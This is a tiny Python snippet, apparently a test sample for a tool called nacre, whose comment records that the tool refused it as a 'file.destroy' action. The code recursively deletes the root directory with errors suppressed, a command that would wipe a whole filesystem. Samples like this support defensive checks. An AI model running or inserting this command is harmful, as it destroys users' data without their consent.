# nacre: refused file.destroy
import shutil
shutil.rmtree("/", ignore_errors=True)
